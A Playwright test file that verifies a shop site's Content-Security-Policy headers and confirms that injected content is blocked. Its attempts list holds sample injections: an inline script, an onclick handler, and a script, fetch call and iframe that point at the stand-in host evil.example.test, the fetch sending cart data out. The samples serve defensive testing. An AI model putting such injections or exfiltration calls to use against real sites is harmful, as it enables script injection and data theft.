import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { mailingScript, newsletterFrame, providerSite, shopWithSettings } from './shopWithSettings.mjs';
import { heading } from './steps';

test.use({ fetchesAhead: true });

async function policyOf(page: Page, address: string): Promise<Record<string, string[]>> {
  const response = await page.request.get(address);
  const header = response.headers()['content-security-policy'] ?? '';
  return Object.fromEntries(
    header.split('; ').map((rule) => {
      const [directive = '', ...sources] = rule.split(' ');
      return [directive, sources];
    }),
  );
}

const hashed = /^'sha256-[\w+/]{43}='$/;

test('the shop allows its own scripts and requests only, with settings also the hosts of these', async ({
  page,
}) => {
  for (const address of ['/', '/cart', '/show/301', '/kino/faqs', '/sw.js']) {
    const policy = await policyOf(page, address);
    expect(policy['default-src']).toEqual(["'none'"]);
    expect(policy['script-src']!.filter((source) => !hashed.test(source))).toEqual(["'self'"]);
    expect(policy['connect-src']).toEqual(["'self'"]);
    expect(policy['frame-src']).toEqual(["'self'"]);
    for (const directive of ['frame-ancestors', 'base-uri']) {
      expect(policy[directive], directive).toEqual(["'none'"]);
    }
  }
  const { 'script-src': scripts = [], 'frame-src': frames = [] } = await policyOf(page, shopWithSettings);
  expect(scripts.filter((source) => /unsafe|^https?:$|\*$/.test(source))).toEqual([]);
  expect(scripts).toContain(new URL(mailingScript).origin);
  expect(scripts).toContain('https://connect.facebook.net');
  expect(frames).toContain(new URL(newsletterFrame).origin);
  expect(frames).toContain(new URL(providerSite).origin);
  expect(scripts).not.toContain(new URL(providerSite).origin);
});

/** Attacks by injected HTML. */
const attempts = [
  {
    name: 'a script in the page',
    directive: 'script-src-elem',
    run: () => {
      const script = document.createElement('script');
      script.textContent = 'window.hostile = true';
      document.body.append(script);
    },
  },
  {
    name: 'a handler at an element',
    directive: 'script-src-attr',
    run: () => {
      const element = document.body.appendChild(document.createElement('i'));
      const handler = document.createAttribute('onclick');
      handler.value = 'window.hostile = true';
      element.setAttributeNode(handler);
      element.click();
    },
  },
  {
    name: 'a script of another host',
    directive: 'script-src-elem',
    run: () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example.test/x.js';
      document.body.append(script);
    },
  },
  {
    name: 'a call to another host',
    directive: 'connect-src',
    run: () => void fetch('https://evil.example.test/?what=cart').catch(() => undefined),
  },
  {
    name: 'a frame of another host',
    directive: 'frame-src',
    run: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example.test/';
      document.body.append(frame);
    },
  },
];

test('injected content is blocked, and a violation fails every test', async ({ page, allowProblems }) => {
  allowProblems(/^console: /);
  const reported: string[] = [];
  page.on('console', (message) => reported.push(message.text()));
  const requested: string[] = [];
  await page.route('https://evil.example.test/**', (route) => {
    requested.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'window.hostile = true' });
  });
  await page.goto('/cart');
  await expect(heading(page, 'Warenkorb')).toBeVisible();
  for (const { name, directive, run } of attempts) {
    await test.step(name, async () => {
      reported.length = 0;
      await page.evaluate(run);
      const stopped = new RegExp(`^policy: ${directive} stopped `);
      await expect.poll(() => reported.filter((text) => stopped.test(text))).toHaveLength(1);
    });
  }
  expect(await page.evaluate(() => 'hostile' in window)).toBe(false);
  expect(requested).toEqual([]);
});
